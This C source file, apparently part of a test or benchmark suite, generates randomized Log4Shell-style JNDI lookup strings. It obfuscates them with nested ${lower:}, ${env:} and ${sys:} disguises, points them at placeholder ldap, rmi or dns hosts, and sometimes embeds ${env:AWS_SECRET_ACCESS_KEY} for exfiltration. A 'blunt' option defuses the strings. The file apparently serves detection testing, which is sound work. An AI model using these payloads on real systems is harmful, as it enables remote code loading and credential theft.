/* attack: look-ups in the disguises that were seen in the wild, put together at random. */
#include "tests/bench/conversation.h"

#include <ctype.h>
#include <string.h>

/* One letter, plain or as a look-up that gives this letter. */
static void add_letter(struct text *t, struct random *r, char letter, uint32_t percent_hidden)
{
    if (!random_chance(r, percent_hidden)) {
        text_add(t, &letter, 1);
        return;
    }
    switch (random_below(r, 5)) {
    case 0:
        text_format(t, "${lower:%c}", toupper(letter));
        break;
    case 1:
        text_format(t, "${::-%c}", letter);
        break;
    case 2:
        text_format(t, "${env:%s_%s:-%c}", random_word(r), random_word(r), letter);
        break;
    case 3:
        text_format(t, "${sys:%s.%s:-%c}", random_word(r), random_word(r), letter);
        break;
    default:
        text_format(t, "${lower:${upper:%c}}", letter);
        break;
    }
}

static void add_letters(struct text *t, struct random *r, const char *letters, uint32_t hidden)
{
    for (; *letters != '\0'; letters++) {
        add_letter(t, r, *letters, hidden);
    }
}

static void make_blunt(uint8_t *data, size_t len)
{
    for (size_t i = 0; i < len; i++) {
        data[i] = data[i] == '$' || data[i] == '{' || data[i] == '}' ? 'x' : data[i];
    }
}

void attack_write(struct text *t, struct random *r, bool blunt)
{
    size_t start = t->len;
    static const char *const schemes[] = {"ldap", "ldap", "ldap", "rmi", "dns", "ldaps"};
    uint32_t hidden = random_chance(r, 40) ? 0 : random_range(r, 20, 100);
    text_format(t, "${");
    add_letters(t, r, "jndi", hidden);
    text_format(t, ":");
    add_letters(t, r, RANDOM_PICK(r, schemes), hidden);
    if (random_chance(r, 50)) {
        text_format(t, "://203.0.113.%u:%u/", random_range(r, 1, 254),
                    random_range(r, 1025, 65000));
    } else {
        text_format(t, "://%s%u.example.net/", random_word(r), random_below(r, 1000));
    }
    text_format(t, random_chance(r, 15) ? "${env:AWS_SECRET_ACCESS_KEY}/" : "a/");
    text_hex(t, r, 8);
    text_format(t, "}");
    if (blunt) {
        make_blunt(t->data + start, t->len - start);
    }
}

void attack_write_percent(struct text *t, struct random *r, bool blunt)
{
    struct text plain = {0};
    attack_write(&plain, r, blunt);
    for (size_t i = 0; i < plain.len; i++) {
        uint8_t c = plain.data[i];
        if (isalnum(c) || c == '.' || c == '-' || c == '_') {
            text_add(t, &c, 1);
        } else {
            text_format(t, "%%%02X", c);
        }
    }
    text_free(&plain);
}
